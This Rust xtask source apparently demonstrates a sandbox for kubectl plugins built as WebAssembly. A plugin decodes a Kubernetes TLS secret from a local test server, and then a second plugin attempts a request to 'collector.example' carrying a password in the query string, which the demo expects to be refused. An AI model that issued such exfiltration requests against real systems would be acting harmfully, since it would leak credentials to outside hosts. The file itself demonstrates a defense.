//! `cargo xtask demo`: shows a plugin in a temporary home, from its installation to the requests that it may
//! not make.

use std::{
    ffi::OsStr,
    path::{Path, PathBuf},
    process::{Command, ExitCode, Stdio},
};

use anyhow::{Context, Result, bail};

use crate::{
    apiserver::ApiServer,
    cargo,
    components::{self, Scope},
    home::Home,
    places,
    places::Places,
    process,
    report::{Report, title},
    wasm::Toolchain,
};

/// The plugins of the demo.
const PLUGINS: Scope<'static> = Scope::Some(&["decoder", "dials"]);

pub(crate) fn run(places: &Places) -> Result<ExitCode> {
    let mut report = Report::default();
    // Known to be there before minutes go into anything else.
    Toolchain::find(places, PLUGINS.need(), false)?;
    let programs = report.step("building kwasm and the embedded API server", || {
        cargo::build_dev(places, &["kwasm", "kwasm-apiserver"])
    })?;
    report.step("building the plugins", || components::build(places, PLUGINS))?;

    title(
        "starting an API server on loopback, with mutual TLS, and the secret `web-tls` in namespace `shop`",
    );
    let server = ApiServer::start(cargo::program(&programs, "kwasm-apiserver")?)?;
    eprintln!("{}\n{}", server.url, server.kubeconfig.display());
    let stage = Stage {
        home: Home::new(places, "demo", cargo::program(&programs, "kwasm")?)?,
        components: places.components(),
        kubeconfig: &server.kubeconfig,
    };
    play(&stage)?;
    drop(server);
    title("done");
    eprintln!(
        "The plugin read the secret without ever holding the credentials, or knowing the address, with which\n\
         it was fetched. The server, the home and the link are removed; your own were not touched."
    );
    Ok(ExitCode::SUCCESS)
}

fn play(stage: &Stage<'_>) -> Result<()> {
    title("installing the plugin `decoder`: one file, the same on every system");
    stage
        .show(stage.kwasm()?.arg("install").arg(stage.component("decoder")).args(["--policy", "request"]))?;

    let words = ["secret", "web-tls", "-n", "shop"];
    let mut plugin = if places::on_path("kubectl").is_some() {
        title("decoding the secret, as any plugin of kubectl's");
        let mut kubectl = stage.program("kubectl")?;
        kubectl.arg("decoder");
        kubectl
    } else {
        title(
            "decoding the secret through the plugin's link; there is no kubectl on PATH, which would do the same",
        );
        stage.program(stage.home.link("decoder"))?
    };
    let decoded = stage.show(plugin.args(words))?;
    for expected in ["Subject", "web.shop.example"] {
        if !decoded.contains(expected) {
            bail!("the plugin's output lacks `{expected}`");
        }
    }

    title("what a plugin cannot do: send what it has read to another host");
    let mut dials = stage.kwasm()?;
    dials.arg("run").arg(stage.component("dials"));
    stage.show_refused(dials.args(["--", "https://collector.example/?password=hunter2"]))
}

/// The state that the scenes of the demo share.
struct Stage<'a> {
    home: Home,
    components: PathBuf,
    kubeconfig: &'a Path,
}

impl Stage<'_> {
    fn component(&self, name: &str) -> PathBuf {
        self.components.join(format!("{name}.wasm"))
    }

    fn kwasm(&self) -> Result<Command> {
        Ok(self.at_the_server(self.home.kwasm()?))
    }

    fn program(&self, program: impl AsRef<OsStr>) -> Result<Command> {
        Ok(self.at_the_server(self.home.command(program)?))
    }

    fn at_the_server(&self, mut command: Command) -> Command {
        command.env("KUBECONFIG", self.kubeconfig).stdin(Stdio::null());
        command
    }

    /// Runs a command that has to succeed, visibly, and returns its output.
    fn show(&self, command: &mut Command) -> Result<String> {
        self.print(command);
        let printed = process::output(command)?;
        print!("{printed}");
        Ok(printed)
    }

    /// Runs a command that has to be refused.
    fn show_refused(&self, command: &mut Command) -> Result<()> {
        self.print(command);
        let status =
            command.status().with_context(|| format!("cannot start `{}`", process::shown(command)))?;
        if status.success() {
            bail!("kwasm let the request through");
        }
        eprintln!("(the plugin ended with {status})");
        Ok(())
    }

    fn print(&self, command: &Command) {
        // Where they lie is of no interest.
        let shown = process::shown(command).replace(&*self.components.to_string_lossy(), "components");
        eprintln!("$ {shown}");
    }
}
